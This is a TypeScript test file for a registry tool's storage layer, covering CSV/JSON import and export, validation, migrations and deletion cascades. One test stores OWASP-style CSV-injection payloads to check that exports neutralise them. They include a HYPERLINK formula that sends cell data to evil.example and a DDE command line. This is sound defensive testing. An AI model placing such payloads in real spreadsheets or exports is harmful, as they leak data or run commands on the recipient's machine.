// Storage tests: every one runs on PGlite and, when DATABASE_URL is set, on PostgreSQL.
import { mkdtemp, readFile, writeFile } from "node:fs/promises"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { beforeAll, beforeEach, describe, expect, it } from "vitest"
import { migrationStatus } from "../../src/infra/Database.js"
import * as codesMigration from "../../src/infra/migrations/2026-11-30T03-codes.js"
import { migrations } from "../../src/infra/migrations/index.js"
import { parseCsv } from "../../src/domain/Csv.js"
import { formatProblem, type InputError } from "../../src/domain/Errors.js"
import { addRecord, describeCascade, exportRegistry, importRegistryFile, listRegistry, removalPlan, removeRecord, showRecord } from "../../src/registries/Registries.js"
import { sql } from "kysely"
import { failWith, type OpenTestDatabase, runWith, testDatabases, truncateAll, useTestDatabase } from "../support/databases.js"

import { dialogue, fellowsCsv, importFellowsAndSites, participantsCsv, sitesCsv } from "../support/registry-fixtures.js"

let dir: string
const file = async (name: string, text: string): Promise<string> => {
  const path = join(dir, name)
  await writeFile(path, text)
  return path
}

describe.each(testDatabases)("registries on $name", (testDb) => {
  const db = useTestDatabase(testDb)
  let shape: OpenTestDatabase
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), "convene-store-"))
  })
  beforeEach(async () => {
    shape = db()
    await truncateAll(shape)
  })
  const importAll = () => importFellowsAndSites(shape, file)

  it("applies the migrations and lists them", async () => {
    const status = await migrationStatus(shape.db)
    expect(status.map((m) => m.name)).toEqual(Object.keys(migrations))
    expect(status.map((m) => m.name).slice(0, 6)).toEqual(["2026-11-22T00-registries", "2026-11-22T01-schedule-plans", "2026-11-25T00-send-log", "2026-11-25T01-surveys", "2026-11-30T00-results", "2026-11-30T01-mail"])
    expect(status.every((m) => m.executed_at !== null)).toBe(true)
  })

  it("imports, and a re-import of the same file changes nothing", async () => {
    const first = await importAll()
    expect(first).toMatchObject({ rows: 3, inserted: 3, updated: 0, unchanged: 0 })
    const again = await runWith(shape, importRegistryFile("sites", join(dir, "sites.csv")))
    expect(again).toMatchObject({ rows: 3, inserted: 0, updated: 0, unchanged: 3 })
    const changed = await runWith(shape, importRegistryFile("sites", await file("sites2.csv", sitesCsv.replace(",60,", ",75,"))))
    expect(changed).toMatchObject({ inserted: 0, updated: 1, unchanged: 2 })
    expect((await runWith(shape, showRecord("sites", "sn-thies"))).capacity).toBe(75)
  })

  it("writes nothing when any row is bad, and reports every bad row", async () => {
    await runWith(shape, importRegistryFile("fellows", await file("fellows.csv", fellowsCsv)))
    const bad = sitesCsv + "xx-1,X,X,SN,Africa/Dakar,fr-SN,100,in-person,nobody@example.org,\nxx-2,X,X,SN,Africa/Dakar,fr-SN,100,in-person,awa@example.org,25:61\n"
    const error = (await failWith(shape, importRegistryFile("sites", await file("bad.csv", bad), { displayName: "bad.csv" }))) as InputError
    expect(error._tag).toBe("InputError")
    expect(error.problems.map(formatProblem)).toEqual([
      'bad.csv:5: fellow_email: expected the email of a registered fellow, "nobody@example.org" is not in the fellows registry (import fellows first)',
      "bad.csv:6: start_local: expected a local time HH:MM (24 h) such as 09:00"
    ])
    expect(await runWith(shape, listRegistry("sites"))).toEqual([])
  })

  it("rejects a fellow email already held by another fellow", async () => {
    await runWith(shape, importRegistryFile("fellows", await file("fellows.csv", fellowsCsv)))
    const error = (await failWith(
      shape,
      importRegistryFile("fellows", await file("f2.csv", "id,name,email,country,languages,organisation\nf-other,Other,AWA@example.org,SN,fr,\n"), { displayName: "f2.csv" })
    )) as InputError
    expect(error.problems.map(formatProblem)).toEqual(['f2.csv:2: email: expected a unique value, "awa@example.org" already belongs to fellow f-sn-diallo'])
  })

  it("export then import round-trips exactly, in CSV and JSON", async () => {
    await importAll()
    await runWith(shape, importRegistryFile("participants", await file("participants.csv", participantsCsv)))
    for (const registry of ["fellows", "sites", "participants"] as const) {
      const csv = await runWith(shape, exportRegistry(registry, "csv"))
      const json = await runWith(shape, exportRegistry(registry, "json"))
      const before = await runWith(shape, listRegistry(registry))
      expect(await runWith(shape, importRegistryFile(registry, await file(`${registry}.out.csv`, csv)))).toMatchObject({ inserted: 0, updated: 0 })
      expect(await runWith(shape, importRegistryFile(registry, await file(`${registry}.out.json`, json)))).toMatchObject({ inserted: 0, updated: 0 })
      expect(await runWith(shape, listRegistry(registry))).toEqual(before)
      expect(await runWith(shape, exportRegistry(registry, "csv"))).toBe(csv)
    }
    // the export writes every column, the optional date, date_reason and other_locales (empty) included
    expect(await runWith(shape, exportRegistry("sites", "csv"))).toBe(
      sitesCsv.split("\n").slice(0, 1).map((h) => `${h},date,date_reason,other_locales`).concat(sitesCsv.split("\n").slice(1, -1).sort().map((r) => `${r},,,`), [""]).join("\n")
    )
  })

  it("exports formula-like cells neutralised (OWASP CSV injection), and the export still imports back exactly", async () => {
    await importAll()
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click me")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1+2", "'=already quoted", "'tis a site"]
    for (const [i, name] of hostile.entries()) {
      await runWith(shape, addRecord("sites", { id: `zz-${i}`, name, city: "-Dakar", country: "SN", timezone: "Africa/Dakar", locale: "fr-SN", capacity: 50, format: "online", fellow_email: "awa@example.org" }))
    }
    const before = await runWith(shape, listRegistry("sites"))
    const csv = await runWith(shape, exportRegistry("sites", "csv"))
    // no cell of the export starts with a character that a spreadsheet would run
    for (const record of parseCsv(csv).records) for (const cell of record.fields) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/)
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click me"")"`)
    expect(csv).toContain("'+cmd|' /C calc'!A0,'-Dakar,")
    expect(csv).toContain("''=already quoted")
    expect(csv).toContain(",'tis a site,")
    await truncateAll(shape)
    await importAll()
    expect(await runWith(shape, importRegistryFile("sites", await file("hostile.out.csv", csv)))).toMatchObject({ inserted: hostile.length, updated: 0 })
    expect(await runWith(shape, listRegistry("sites"))).toEqual(before)
    expect(await runWith(shape, exportRegistry("sites", "csv"))).toBe(csv)
  })

  it("gives participants without a code a pseudonymous one, and keeps it on re-import", async () => {
    await importAll()
    await runWith(shape, importRegistryFile("participants", await file("participants.csv", participantsCsv)))
    const [p1, p2] = await runWith(shape, listRegistry("participants"))
    expect(p1!.code).toMatch(/^[A-Z2-9]{8}$/)
    expect(p2!.code).toBe("K7M2P9QX")
    const again = await runWith(shape, importRegistryFile("participants", join(dir, "participants.csv")))
    expect(again).toMatchObject({ unchanged: 2 })
    expect((await runWith(shape, showRecord("participants", "p-1"))).code).toBe(p1!.code)
  })

  it("stores participant codes trimmed and upper-cased, and finds duplicates without case (issue 13)", async () => {
    await importAll()
    const added = await runWith(shape, addRecord("participants", { id: "p-9", site_id: "sn-dakar", code: " xyz-lower-9 " }))
    expect(added.code).toBe("XYZ-LOWER-9")
    expect((await runWith(shape, listRegistry("participants", { code: "xyz-lower-9" }))).map((p) => p.id)).toEqual(["p-9"])
    const error = (await failWith(shape, importRegistryFile("participants", await file("dup-codes.csv", "id,site_id,code\np-10,sn-dakar,dup-code-1\np-11,sn-dakar,DUP-CODE-1\np-12,sn-dakar,Xyz-Lower-9\n"), { displayName: "dup-codes.csv" }))) as InputError
    expect(error.problems.map(formatProblem)).toEqual([
      'dup-codes.csv:3: code: expected a unique value, "DUP-CODE-1" is already on line 2',
      expect.stringMatching(/^dup-codes\.csv:4: code: expected a unique value, "XYZ-LOWER-9" already belongs to participant p-9/)
    ])
  })

  it("refuses, all or nothing, participants whose feature values are not in the codebook, at FILE:LINE:COLUMN (issue 16)", async () => {
    await importAll()
    const codebook = dialogue.features
    const bad = "id,site_id,gender,age_band,education,residence\np-20,sn-dakar,woman,25-34,secondary,urban\np-21,sn-dakar,F,30-39,secondary,Urban\np-22,sn-dakar,,,,\n"
    const error = (await failWith(shape, importRegistryFile("participants", await file("codes.csv", bad), { displayName: "codes.csv", codebook }))) as InputError
    expect(error.summary).toBe("codes.csv: 1 bad row; nothing was imported.")
    expect(error.problems.map(formatProblem)).toEqual([
      'codes.csv:3:3: gender: expected one of woman, man, non-binary, undisclosed (the codebook in convene.yaml), got "F"',
      'codes.csv:3:4: age_band: expected one of 16-24, 25-34, 35-44, 45-54, 55-64, 65+ (the codebook in convene.yaml), got "30-39"',
      'codes.csv:3:6: residence: expected one of urban, rural (the codebook in convene.yaml), got "Urban": did you mean "urban"?'
    ])
    expect(await runWith(shape, listRegistry("participants", { id: "p-20" }))).toEqual([])
    // the same values are free text without a codebook, and `add` checks as import does
    expect((await runWith(shape, importRegistryFile("participants", await file("codes.csv", bad), { displayName: "codes.csv" }))).inserted).toBe(3)
    const refused = (await failWith(shape, addRecord("participants", { id: "p-23", site_id: "sn-dakar", gender: "female" }, { codebook }))) as InputError
    expect(refused.problems.map(formatProblem)).toEqual(['gender: expected one of woman, man, non-binary, undisclosed (the codebook in convene.yaml), got "female"'])
  })

  it("upper-cases the codes stored before, and refuses, naming them, codes that differ only in case (migration 2026-11-30T03-codes)", async () => {
    await importAll()
    const rows = (codes: ReadonlyArray<string>) => codes.map((code, i) => ({ id: `p-old-${i}`, site_id: "sn-dakar", code }))
    await shape.db.insertInto("participants").values(rows(["abcd-lower-1", "K7M2P9QX", " mixed-Case "])).execute()
    await codesMigration.up(shape.db)
    const codes = async () => (await shape.db.selectFrom("participants").select(["id", "code"]).orderBy("id").execute()).map((r) => r.code)
    expect(await codes()).toEqual(["ABCD-LOWER-1", "K7M2P9QX", "MIXED-CASE"])
    await shape.db.insertInto("participants").values([{ id: "p-old-3", site_id: "sn-dakar", code: "k7m2p9qx" }, { id: "p-old-4", site_id: "sn-dakar", code: "other-1" }]).execute()
    await expect(codesMigration.up(shape.db)).rejects.toThrow(/1 code is then held by several participants \(K7M2P9QX: p-old-1 \(K7M2P9QX\), p-old-3 \(k7m2p9qx\)\)/)
    // refused as a whole: the code without a clash was not changed either
    expect(await codes()).toEqual(["ABCD-LOWER-1", "K7M2P9QX", "MIXED-CASE", "k7m2p9qx", "other-1"])
  })

  it("adds one record, refuses a taken id, and names bad fields", async () => {
    await importAll()
    const added = await runWith(shape, addRecord("coalition", { id: "unesco", name: "UNESCO", kind: "un-agency" }))
    expect(added).toEqual({ id: "unesco", name: "UNESCO", kind: "un-agency" })
    expect((await failWith(shape, addRecord("coalition", { id: "unesco", name: "UNESCO", kind: "un-agency" })))._tag).toBe("Conflict")
    const bad = (await failWith(shape, addRecord("sites", { id: "x", name: "X", city: "X", country: "SN", timezone: "Asia/Kolkatta", locale: "fr-SN", capacity: 5, format: "online", fellow_email: "awa@example.org" }))) as InputError
    expect(bad.problems.map(formatProblem)).toEqual(['timezone: expected an IANA time zone such as Africa/Dakar, got "Asia/Kolkatta"'])
  })

  it("refuses to remove a fellow who runs sites or a site with participants", async () => {
    await importAll()
    await runWith(shape, importRegistryFile("participants", await file("participants.csv", participantsCsv)))
    expect((await failWith(shape, removeRecord("fellows", "f-sn-diallo"))).message).toContain("still has 2 sites")
    expect((await failWith(shape, removeRecord("sites", "sn-dakar"))).message).toContain("still has 2 participants")
    expect((await failWith(shape, removeRecord("sites", "nope")))._tag).toBe("NotFound")
    await runWith(shape, removeRecord("sites", "np-kathmandu"))
    await runWith(shape, removeRecord("fellows", "f-np-sharma"))
    expect((await runWith(shape, listRegistry("sites"))).map((s) => s.id)).toEqual(["sn-dakar", "sn-thies"])
  })

  it("a dry-run import runs every check, counts, and leaves the database as it was", async () => {
    await importAll()
    await runWith(shape, importRegistryFile("participants", await file("participants.csv", participantsCsv)))
    const before = await Promise.all((["sites", "participants"] as const).map((r) => runWith(shape, exportRegistry(r, "json"))))
    const changed = sitesCsv.replace(",60,", ",75,") + "sn-kaolack,Kaolack assembly,Kaolack,SN,Africa/Dakar,fr-SN,40,online,awa@example.org,\n"
    const rehearsed = await runWith(shape, importRegistryFile("sites", await file("sites-dry.csv", changed), { dryRun: true }))
    expect(rehearsed).toMatchObject({ rows: 4, inserted: 1, updated: 1, unchanged: 2, dryRun: true, sample: ["sn-dakar", "sn-thies", "np-kathmandu", "sn-kaolack"] })
    // new participants get codes in a dry run too, then vanish with the rollback
    const newcomers = participantsCsv + "p-3,sn-thies,,,,,,,\n"
    expect(await runWith(shape, importRegistryFile("participants", await file("p-dry.csv", newcomers), { dryRun: true }))).toMatchObject({ inserted: 1, unchanged: 2, dryRun: true })
    // a bad row fails a dry run as it fails an import
    const bad = (await failWith(shape, importRegistryFile("sites", await file("bad-dry.csv", sitesCsv + "xx,X,X,SN,Africa/Dakar,fr-SN,100,in-person,nobody@example.org,\n"), { dryRun: true }))) as InputError
    expect(bad._tag).toBe("InputError")
    const after = await Promise.all((["sites", "participants"] as const).map((r) => runWith(shape, exportRegistry(r, "json"))))
    expect(after).toEqual(before)
    // the real import then does what the dry run said
    expect(await runWith(shape, importRegistryFile("sites", await file("sites-real.csv", changed)))).toMatchObject({ rows: 4, inserted: 1, updated: 1, unchanged: 2 })
    expect((await runWith(shape, exportRegistry("sites", "json"))) === before[0]).toBe(false)
  })

  it("says what removing a participant or a site would delete with it, and deletes exactly that", async () => {
    await importAll()
    await runWith(shape, importRegistryFile("participants", await file("participants.csv", participantsCsv)))
    for (const [wave, instrument] of [["pre", "a"], ["pre", "b"], ["post", "a"]] as const) {
      await sql`insert into survey_responses (participant_id, instrument, instrument_version, wave, source, answers) values ('p-1', ${instrument}, 1, ${wave}, 'paper', '{}'::jsonb)`.execute(shape.db)
    }
    await sql`insert into milestone_progress (site_id, milestone_id, done_on) values ('np-kathmandu', 'm-1', '2026-11-01')`.execute(shape.db)
    const plan = await runWith(shape, removalPlan("participants", "p-1"))
    expect(plan.cascade).toEqual([{ table: "survey_responses", rows: 3, waves: 2 }])
    expect(plan.consequence).toBe("participant p-1 has 3 survey answers in 2 waves, which would be deleted too.")
    expect((await runWith(shape, removalPlan("participants", "p-2"))).consequence).toBe("participant p-2 has nothing that would be deleted with it.")
    expect((await runWith(shape, removalPlan("sites", "np-kathmandu"))).alsoDeletes).toBe("1 milestone date")
    // the plan deletes nothing
    expect(Number((await sql<{ n: string }>`select count(*) as n from survey_responses`.execute(shape.db)).rows[0]!.n)).toBe(3)
    await runWith(shape, removeRecord("participants", "p-1"))
    expect(Number((await sql<{ n: string }>`select count(*) as n from survey_responses`.execute(shape.db)).rows[0]!.n)).toBe(0)
    expect(describeCascade("site", "x", [{ table: "milestone_progress", rows: 2 }, { table: "result_links", rows: 1 }])).toBe("site x has 2 milestone dates and 1 results link, which would be deleted too.")
  })

  it("imports 10,000 participants in one transaction", async () => {
    await importAll()
    const rows = Array.from({ length: 10_000 }, (_, i) => `p-${i},${i % 2 === 0 ? "sn-dakar" : "np-kathmandu"},,,,,,,`)
    const summary = await runWith(shape, importRegistryFile("participants", await file("many.csv", `id,site_id,code,locale,email,gender,age_band,education,residence\n${rows.join("\n")}\n`)))
    expect(summary).toMatchObject({ rows: 10_000, inserted: 10_000 })
    const codes = new Set((await runWith(shape, listRegistry("participants"))).map((p) => p.code))
    expect(codes.size).toBe(10_000)
  })
})
